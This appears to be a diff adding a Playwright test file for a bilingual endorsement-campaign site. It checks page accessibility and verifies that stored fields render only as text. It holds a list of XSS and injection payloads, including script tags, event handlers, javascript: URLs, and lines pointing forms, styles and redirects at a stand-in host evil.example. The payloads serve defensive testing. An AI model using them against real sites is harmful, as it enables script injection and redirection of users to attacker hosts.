@@ -1,0 +1,188 @@
+"""The wall and the review desk in both languages: usable for everybody, and deaf to whatever a field holds."""
+
+import pytest
+from playwright.sync_api import Page
+
+from pledge.audit.models import COMMAND_LINE
+from pledge.campaigns.models import Campaign
+from pledge.db import db
+from pledge.endorsements import merging, moderation, reasons, review
+from pledge.endorsements.models import ReasonKind
+from tests.browser.steps import CAMPAIGN
+from tests.support import apps
+from tests.support.browser import DESK, Visitor, accessibility_faults, overflow
+from tests.support.factories import SLUG, endorsement, fold_all, version_of
+from tests.support.site import Site
+from tests.support.staff import sign_in
+
+NARROW = {"width": 320, "height": 640}
+
+#: What has broken out of a text, an attribute, an address, a script or a style somewhere.
+PAYLOADS = (
+    "<script>alert(1)</script>",
+    '"><script>alert(1)</script>',
+    "'\"><img src=x onerror=alert(1)>",
+    "<svg/onload=alert(1)>",
+    '" onmouseover="alert(1)" autofocus onfocus="alert(1)" x="',
+    "' onfocus='alert(1)' autofocus='",
+    "javascript:alert(1)",
+    "data:text/html,<script>alert(1)</script>",
+    "</title><script>alert(1)</script>",
+    "</textarea><script>alert(1)</script>",
+    "</option></select><img src=x onerror=alert(1)>",
+    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    "<a href=javascript:alert(1)>press</a>",
+    "<form action=//evil.example><button>send</button></form>",
+    "<style>@import '//evil.example/x.css'</style>",
+    '<meta http-equiv="refresh" content="0;url=//evil.example">',
+    "<base href=//evil.example/>",
+    "{{ 7*7 }}{% raw %}",
+    "%(name)s %s {0} ${alert(1)}",
+    "<!--><script>alert(1)</script>",
+    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "\\u003cscript\\u003ealert(1)",
+    "<details open ontoggle=alert(1)>",
+)
+
+
+@pytest.fixture(scope="module")
+def town(new_database, worker_folder):
+    """A site of its own with organisations in all states, some of them full of payloads; its pages by name."""
+    site = Site(worker_folder / "organizations", new_database("sqlite", "organizations"))
+    try:
+        site.start()
+        app = apps.build(site.folder, database_url=site.database_url)
+        with app.app_context():
+            pages = _settle()
+        apps.dispose(app)
+        yield site, pages
+    finally:
+        site.stop()
+
+
+def _settle():
+    blue = db.session.scalars(db.select(Campaign).where(Campaign.slug == SLUG)).one()
+    long_name = {"name_ko": "전국기후위기대응시민연대회의추진본부준비위원회" * 2, "name_en": "Donaudampfschiff" * 7}
+    row = endorsement(blue, level="staff", interim_year=2030, interim_percent=40, **long_name)
+    foreign = endorsement(blue, name_ko="", statement_ko="", country="JP", spokesperson="Kim, Director")
+    removed = endorsement(blue, state="removed", public_reason_ko="사유입니다.", public_reason_en="A reason.")
+    endorsement(blue, state="withdrawn")
+    waits = endorsement(blue, state="review", **long_name)
+    corrected = endorsement(blue)
+    version_of(corrected, target_year=2040, statement_en="Other words.")
+    asked = endorsement(blue, state="review")
+    moderation.ask_for_changes(COMMAND_LINE, asked.id, review.find(asked.id).seen, "logo-unclear")
+    declined = endorsement(blue, state="review")
+    moderation.decline(COMMAND_LINE, declined.id, review.find(declined.id).seen, "authority-unclear")
+    twice = endorsement(blue)
+    merging.merge(COMMAND_LINE, twice.id, row.id, review.find(twice.id).seen, "the same")
+    evil = [_evil(blue, payload) for payload in PAYLOADS]
+    fold_all()
+    wall, desk = f"/{{lang}}/{CAMPAIGN}/organizations", "/staff/organizations"
+    return {
+        "public": [
+            *(wall, f"{wall}?q=zzz", f"{wall}?type=civil&country=KR"),
+            *(f"{wall}/{number.id}" for number in (row, foreign, removed)),
+        ],
+        "staff": [
+            *(f"{desk}?tab={tab}" for tab in ("review", "changes", "published", "ended")),
+            *(f"{desk}/{case.id}" for case in (row, waits, corrected, asked, declined, removed, twice)),
+            *("/staff/reasons", "/staff/reasons?code=closed-down"),
+        ],
+        "evil": [f"{wall}/{number}" for number, _ in evil]
+        + [wall, f"/{{lang}}/{CAMPAIGN}"]
+        + [f"{desk}/{number}" for pair in evil for number in pair]
+        + [f"{desk}?tab={tab}" for tab in ("review", "published", "ended")]
+        + ["/staff/reasons"],
+    }
+
+
+def _evil(blue, payload):
+    """One on the wall with a correction, and one that has left, with the payload wherever a text can stand."""
+    texts = {
+        name: payload
+        for name in ("name_ko", "name_en", "website", "statement_ko", "statement_en", "spokesperson", "logo")
+    }
+    person = {"contact_name": payload, "contact_title": payload, "contact_email": payload}
+    on_wall = endorsement(blue, decision_reason=payload, **texts, **person)
+    version_of(on_wall, target_year=2041)
+    gone = endorsement(blue, **texts, **person)
+    moderation.remove(COMMAND_LINE, gone.id, review.find(gone.id).seen, "closed-down", (payload, payload))
+    code = f"evil-{PAYLOADS.index(payload)}"
+    reasons.save(COMMAND_LINE, code=code, kind=ReasonKind.CHANGES, ko=payload, en=payload, active=True)
+    return on_wall.id, gone.id
+
+
+@pytest.fixture
+def window(chromium, town):
+    """`window("ko")`: an administrator's window on that site."""
+    site, _ = town
+    person = Visitor(chromium, site.url)
+
+    def make(lang: str) -> Page:
+        page = person.page(lang=lang)
+        sign_in(page, site, "admin", lang=lang)
+        return page
+
+    yield make
+    for context in person._contexts:
+        context.clear_cookies()
+    # A payload is the name of no stored picture.
+    person.faults[:] = [fault for fault in person.faults if not fault.startswith(f"404 for {site.url}/files/")]
+    person.close()
+
+
+def look_at(page):
+    """Everything that is wrong with the page as it is shown now."""
+    page.emulate_media(color_scheme="light")
+    page.set_viewport_size(NARROW)
+    faults = [f"{overflow(page)} px stick out on a phone"] if overflow(page) > 0 else []
+    faults += accessibility_faults(page)
+    page.emulate_media(color_scheme="dark")
+    faults += [f"dark: {fault}" for fault in accessibility_faults(page, "color-contrast", "link-in-text-block")]
+    page.set_viewport_size(DESK)
+    faults += [f"{overflow(page)} px stick out on a desk"] if overflow(page) > 0 else []
+    return [f"{page.url}: {fault}" for fault in faults]
+
+
+@pytest.mark.parametrize("lang", ["ko", "en"])
+def test_no_page_of_the_wall_or_the_desk_shuts_anybody_out(town, window, lang):
+    page, faults = window(lang), []
+    for path in [*town[1]["public"], *town[1]["staff"]]:
+        page.goto(path.format(lang=lang))
+        page.evaluate("document.querySelectorAll('details').forEach(part => { part.open = true })")
+        faults += look_at(page)
+        assert page.locator("html").get_attribute("lang") == lang
+    # Forms that come back.
+    case = next(path for path in town[1]["staff"] if path.startswith("/staff/organizations/"))
+    page.goto(case)
+    page.locator("#remove summary").click()
+    with page.expect_navigation():
+        page.locator("#remove button").click()
+    faults += look_at(page)
+    page.goto("/staff/reasons")
+    with page.expect_navigation():
+        page.locator("#reason button").click()
+    faults += look_at(page)
+    assert not faults, "\n" + "\n".join(faults)
+
+
+def test_whatever_a_field_holds_is_only_text(town, window):
+    page = window("en")
+    heard = []
+    page.on("dialog", lambda dialog: (heard.append(f"dialog {dialog.message}"), dialog.dismiss()))
+    page.add_init_script(
+        """document.addEventListener("securitypolicyviolation",
+                   event => console.error(`blocked by policy: ${event.violatedDirective} ${event.blockedURI}`))"""
+    )
+    for path in town[1]["evil"]:
+        page.goto(path.format(lang="en"), wait_until="domcontentloaded")
+        page.evaluate("document.querySelectorAll('details').forEach(part => { part.open = true })")
+        strange = page.evaluate(
+            """() => [...document.querySelectorAll("iframe, base, style, math, meta[http-equiv], [onerror], [onload],"
+                  + " [onfocus], [onmouseover], [ontoggle], [href^='javascript:' i], [href^='data:' i]"
+                  + ", script:not([src^='/static/']), form[action^='//']")].map(element => element.outerHTML)"""
+        )
+        heard += [f"{page.url}: {element}" for element in strange]
+    assert not heard, "\n".join(heard)
